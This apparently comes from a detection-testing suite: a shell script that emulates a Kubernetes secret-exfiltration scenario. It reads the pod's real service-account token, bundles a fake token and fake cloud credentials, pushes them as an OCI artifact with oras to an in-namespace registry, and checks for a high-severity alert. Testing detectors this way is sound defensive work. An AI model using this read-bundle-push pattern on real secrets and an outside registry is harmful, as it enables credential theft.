#!/bin/sh
# Emulates scenario oras-push-secrets (examples/scenarios/oras-push-secrets.yaml):
# Service-account token and cloud credentials bundled and pushed as an OCI artifact with oras.
#
# The script reads the pod's real service-account token (that read is what exfilwatch flags) but bundles a
# FAKE placeholder instead of it, next to fake cloud credentials. Safe version: in-namespace registry.
#
# Image: ghcr.io/oras-project/oras:v1.2.2
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need oras tar
emu_check_target "$EMU_REGISTRY"
emu_read_sa_token
work="$EMU_WORKDIR/oras-push-secrets"
rm -rf "$work"
emu_fake_secrets "$work/host/root"
mkdir -p "$work/b"
printf 'FAKE-SERVICE-ACCOUNT-TOKEN-EXAMPLE\n' >"$work/b/token"
tar czf "$work/b.tgz" -C "$work" b host/root/.aws/credentials
cd "$work"
emu_retry 12 oras push --plain-http "$EMU_REGISTRY/pkg-cache-3/blob:1" b.tgz:application/vnd.oci.image.layer.v1.tar+gzip
cd /
rm -rf "$work"
emu_expect sensitive-read-then-push high
